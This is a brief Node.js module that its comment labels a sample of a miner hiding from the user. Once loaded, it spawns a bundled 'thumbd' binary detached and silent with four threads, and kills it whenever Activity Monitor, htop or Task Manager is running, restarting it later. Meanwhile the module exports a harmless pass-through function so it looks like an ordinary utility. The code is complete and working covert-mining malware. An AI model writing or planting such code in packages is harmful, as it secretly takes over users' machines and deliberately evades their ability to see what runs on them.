// Sample: a worker binary shipped in the package runs in the background and is stopped whenever
// a process monitor is open, then started again (a miner hiding from the user).
const { spawn, execFileSync } = require('child_process');
const path = require('path');
const WATCHERS = ['Activity Monitor', 'htop', 'Taskmgr.exe'];
let worker;
function watched() {
  const list = execFileSync(process.platform === 'win32' ? 'tasklist' : 'ps', process.platform === 'win32' ? [] : ['-A']).toString();
  return WATCHERS.some((w) => list.includes(w));
}
setInterval(() => {
  if (watched()) return worker && (worker.kill(), (worker = undefined));
  worker ??= spawn(path.join(__dirname, 'bin', 'thumbd'), ['--threads', '4'], { detached: true, stdio: 'ignore' });
}, 30_000).unref();
module.exports = (file) => file;
